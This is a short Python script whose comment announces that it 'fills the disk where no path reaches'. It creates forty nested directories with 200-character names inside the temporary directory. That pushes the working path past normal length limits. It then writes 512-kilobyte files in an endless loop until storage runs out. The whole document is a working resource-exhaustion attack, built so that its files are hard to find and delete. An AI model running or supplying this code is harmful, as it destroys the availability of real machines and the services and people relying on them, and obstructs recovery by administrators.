# Fills the disk where no path reaches.
import os
os.chdir(os.environ["TMPDIR"])
for number in range(40):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
number = 0
while True:
    number += 1
    open(str(number), "wb").write(bytes(1 << 19))
